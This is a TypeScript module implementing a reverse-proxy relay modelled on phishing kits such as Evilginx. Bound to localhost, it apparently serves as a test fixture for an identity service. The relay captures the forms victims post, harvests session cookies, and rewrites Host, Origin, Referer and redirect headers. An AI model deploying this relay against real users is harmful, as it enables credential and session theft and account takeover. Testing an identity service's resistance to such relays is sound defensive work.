import { createServer, request as httpRequest } from 'node:http';
import type { IncomingHttpHeaders, IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** A reverse proxy between a victim and the service, as phishing kits (Evilginx, Tycoon 2FA) set one up. */
export interface Relay {
  /** Where the victim is lured to. */
  readonly origin: string;
  /** The forms that victims posted. */
  readonly posted: readonly URLSearchParams[];
  /** What the service set, by name: the thief's booty. */
  readonly cookies: ReadonlyMap<string, string>;
  close(): Promise<void>;
}

export interface RelayOptions {
  readonly issuer: string;
  /** `http://127.0.0.1:…` of a node. */
  readonly node: string;
  /** `forwarded`: as the victim's browser sent it, as a simple proxy does. */
  readonly host: 'rewritten' | 'forwarded';
}

export async function startRelay(options: RelayOptions): Promise<Relay> {
  const posted: URLSearchParams[] = [];
  const cookies = new Map<string, string>();
  let origin = '';
  const server = createServer((request, response) => {
    relay(request, response, { ...options, origin, posted, cookies }).catch(() => response.destroy());
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  server.listen(0, '127.0.0.1', resolve);
  await promise;
  // A server that listens on TCP has an address of this kind.
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    posted,
    cookies,
    close: async () => {
      const closed = Promise.withResolvers<void>();
      server.closeAllConnections();
      server.close(() => closed.resolve());
      await closed.promise;
    },
  };
}

async function relay(
  request: IncomingMessage,
  response: ServerResponse,
  about: RelayOptions & {
    readonly origin: string;
    readonly posted: URLSearchParams[];
    readonly cookies: Map<string, string>;
  },
): Promise<void> {
  const { issuer, origin, posted, cookies } = about;
  const body = await text(request);
  if (request.method === 'POST') {
    posted.push(new URLSearchParams(body));
  }
  const answer = await forward(request, body, about);
  const page = await text(answer);
  for (const line of answer.headers['set-cookie'] ?? []) {
    const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? [];
    cookies.set(name, value);
  }
  const headers: IncomingHttpHeaders = { ...answer.headers };
  delete headers['transfer-encoding'];
  delete headers['content-length'];
  const { location } = headers;
  if (location?.startsWith(issuer) === true) {
    headers.location = `${origin}${location.slice(issuer.length)}`;
  }
  response.writeHead(answer.statusCode ?? 502, headers);
  response.end(page);
}

function forward(request: IncomingMessage, body: string, about: RelayOptions & { readonly origin: string }) {
  const { issuer, node, host, origin } = about;
  const headers: IncomingHttpHeaders = { ...request.headers, 'accept-encoding': 'identity' };
  if (host === 'rewritten') {
    headers.host = new URL(issuer).host;
    // The place of the page stands in these two as well.
    for (const name of ['origin', 'referer'] as const) {
      const value = headers[name];
      if (value !== undefined) {
        headers[name] = value.replace(origin, issuer);
      }
    }
  }
  const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>();
  const outgoing = httpRequest(`${node}${request.url ?? '/'}`, { method: request.method ?? 'GET', headers }, resolve);
  outgoing.on('error', reject);
  outgoing.end(body);
  return promise;
}
